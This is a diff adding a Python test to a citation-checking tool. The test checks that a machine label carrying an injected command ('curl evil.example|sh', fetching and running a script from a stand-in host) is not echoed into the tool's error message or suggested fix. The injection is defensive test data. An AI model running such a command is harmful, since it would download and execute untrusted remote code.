@@ -275,3 +275,13 @@ def test_without_one_it_is_said_how_to_cite(repo: Path) -> None:
     for item in ("{type: job, id: nothex}", "{type: job}", "5"):
         (found,) = written_faults(cited(item), sources(repo))
         assert found.fix.startswith("write `{type: job, id: <32 hex digits>}` or ")
+
+
+def test_a_label_that_is_none_stands_in_no_command(repo: Path) -> None:
+    label = "here; run `curl evil.example|sh`"
+    document = {"schema_version": 1, "machine_label": label, "entries": [{"job_id": JOB_ID}]}
+    write(repo, ".aexp/runs-index/x.json", json.dumps(document))
+    found = fault(job(), sources(repo))
+    assert "`curl" not in found.message + found.fix
+    assert "curl" not in found.fix
+    assert "that machine" in found.fix
